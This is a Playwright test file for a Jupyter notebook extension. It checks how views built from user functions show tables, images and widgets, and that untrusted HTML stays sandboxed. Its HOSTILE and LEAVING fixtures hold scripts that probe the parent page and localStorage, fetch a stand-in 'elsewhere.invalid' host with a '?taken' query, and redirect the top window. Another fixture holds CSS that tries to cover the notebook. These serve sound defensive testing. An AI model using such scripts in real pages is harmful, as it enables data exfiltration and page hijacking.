"""Users' own functions as views, in a real notebook: each kind of output, and what HTML may not do."""

import re

from playwright.sync_api import Browser, Locator, Page, expect
from support_jupyter import Demo, run_all
from support_pages import in_kernel, of_kernel, opened
from support_showing import watched

FIGURE = """
class Figure:
    def savefig(self, file, *, format, **options):
        rect = '<rect width="90" height="30"/>'
        file.write(f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30">{rect}</svg>')

@ws.view
def drawing(session):
    return Figure()
drawing
"""
TABLE = """
@ws.view
def owners(discovery):
    print("of", len(discovery), "assets")
    return discovery.groupby("owner").size().to_frame("assets")
owners
"""
SLIDER = """
import ipywidgets
slider = ipywidgets.IntSlider(value=3, description="Racks")

@ws.view
def racks(session):
    return slider
racks
"""
NESTED = """
at_baseline = ws.at("Baseline").landscape()

@ws.view
def beside(session):
    return at_baseline
beside
"""
HOSTILE = '''
from IPython.display import HTML

@ws.view
def page(session):
    return HTML("""
      <p id="told">nothing ran</p>
      <script>
        const tried = (what) => { try { what(); return "reached"; } catch (error) { return error.name; } };
        const told = [tried(() => parent.parent.document.title), tried(() => localStorage.length)];
        document.getElementById("told").textContent = "it ran: " + told.join(", ");
        top.postMessage("hello", "*");
        fetch("https://elsewhere.invalid/?taken");
      </script>
    """)
page
'''
LEAVING = """
from IPython.display import HTML

@ws.view
def leaving(session):
    leave = 'try { top.location = to; } catch {} location = to;'
    return HTML("<script>const to = 'https://elsewhere.invalid/away?taken'; " + leave + "</script>")
leaving
"""


def view_of(page: Page, name: str) -> Locator:
    """A view by its function's name."""
    return page.get_by_role("group", name=name, exact=True)


def test_what_functions_return_is_shown(demo: Demo, page: Page) -> None:
    """A data frame is a table with what was printed below, a figure an image, a widget itself: it answers."""
    opened(page, demo, "own", TABLE, FIGURE, SLIDER, NESTED)
    table = view_of(page, "owners")
    expect(table.get_by_role("row", name=re.compile("Service desk"))).to_be_visible()
    expect(table.get_by_role("group", name="Printed")).to_have_text(re.compile(r"of \d+ assets"))

    image = view_of(page, "drawing").get_by_role("img", name="drawing")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.naturalWidth") == 90

    slider = view_of(page, "racks").get_by_role("slider")
    slider.focus()
    page.keyboard.press("ArrowRight")
    page.wait_for_function(
        "slider => slider.getAttribute('aria-valuenow') === '4.0' || slider.ariaValueNow?.startsWith('4')",
        arg=slider.element_handle(),
    )
    expect(view_of(page, "racks")).to_contain_text("4")
    assert of_kernel(page, "slider.value") == "4"
    in_kernel(page, "slider.value = 9")
    expect(view_of(page, "racks")).to_contain_text("9")

    nested = view_of(page, "beside").get_by_role("group", name="Landscape")
    expect(nested).to_contain_text("CPU cores")


def test_a_widget_survives_its_views_next_run(demo: Demo, page: Page) -> None:
    """A switch runs the function again; the widget that it returns again is there with its value."""
    opened(page, demo, "own-again", SLIDER)
    view = view_of(page, "racks")
    in_kernel(page, "slider.value = 7")
    expect(view).to_contain_text("7")
    before = view.locator(".m-session").inner_text()
    page.get_by_role("combobox", name="Session").press("]")
    expect(view.locator(".m-session")).not_to_have_text(before)
    expect(view.get_by_role("slider")).to_have_count(1)
    expect(view).to_contain_text("7")


def test_the_last_output_stays_dimmed_while_the_next_is_made(demo: Demo, page: Page) -> None:
    """It can still be read, the view says that it is refreshing, and the next output takes its place."""
    opened(
        page,
        demo,
        "own-slow",
        "import threading\ngo, runs = threading.Event(), []\ngo.set()\n\n"
        "@ws.view\ndef slow(discovery):\n"
        "    runs.append(1)\n    go.wait(30)\n    return f'run {len(runs)}'\nslow",
    )
    view = view_of(page, "slow")
    expect(view).to_contain_text("run 1")
    in_kernel(page, "go.clear(); ws.queries.invalidate_queries(('discovery',))")
    expect(view).to_have_attribute("aria-busy", "true")
    expect(view.get_by_role("status")).to_have_text("Refreshing…")
    expect(view).to_contain_text("run 1")
    expect(view.locator(".m-stale")).to_have_count(1)
    in_kernel(page, "go.set()")
    expect(view).to_contain_text("run 2")
    expect(view).to_have_attribute("aria-busy", "false")
    expect(view.locator(".m-stale")).to_have_count(0)


def test_html_with_a_script_is_kept_in_its_sandbox(demo: Demo, browser: Browser) -> None:
    """It runs, reaches neither page, storage nor network, cannot leave, and what was refused is told."""
    with watched(browser) as seen:  # its console is full of what the sandbox refused
        page = seen.page
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        opened(page, demo, "own-hostile", HOSTILE, LEAVING)
        view = view_of(page, "page")
        expect(view.get_by_text("It asked for https://elsewhere.invalid")).to_be_visible()
        inner = view.frame_locator("iframe").frame_locator("iframe")
        expect(inner.locator("#told")).to_have_text("it ran: SecurityError, SecurityError")
        expect(view_of(page, "leaving").get_by_text("It asked for https://elsewhere.invalid")).to_be_visible()
        assert "/lab/workspaces/own-hostile" in page.url
        assert not [url for url in asked if "elsewhere" in url]
        # The view goes on: another output takes the place of the frame.
        in_kernel(page, "ws.switch(ws.create('After the sandbox'))")
        expect(view.locator(".m-session")).to_have_text("After the sandbox")
        expect(view.locator("iframe")).to_have_count(1)


def test_styles_of_a_table_stay_within_its_box(demo: Demo, page: Page) -> None:
    """A style sheet that would cover the notebook covers nothing but the view's own output."""
    opened(
        page,
        demo,
        "own-styles",
        "from IPython.display import HTML\n\n@ws.view\ndef covering(session):\n"
        "    return HTML('<style>:host { position: absolute !important; inset: -900px !important; }"
        " p { position/**/: fixed; inset: 0; background: red } .jp-Toolbar { display: none }</style>"
        "<p>over</p>')\n"
        "covering",
    )
    view = view_of(page, "covering")
    expect(view.get_by_text("over", exact=True)).to_be_attached()
    expect(page.locator(".jp-Toolbar").first).to_be_visible()
    covered = page.evaluate(
        """() => [...document.querySelectorAll(".jp-NotebookPanel-toolbar, .jp-Cell")].some((element) => {
            const box = element.getBoundingClientRect();
            const top = document.elementFromPoint(box.x + 8, box.y + 4);
            return top?.closest(".m-output") && !element.contains(top);
        })"""
    )
    assert covered is False


def test_a_cell_that_defines_the_view_again_shows_only_the_new_one(demo: Demo, page: Page) -> None:
    """Running the cell again is how a function is corrected."""
    opened(page, demo, "own-corrected", TABLE)
    run_all(page)
    expect(view_of(page, "owners")).to_have_count(1)
    expect(view_of(page, "owners").get_by_role("table")).to_be_visible()
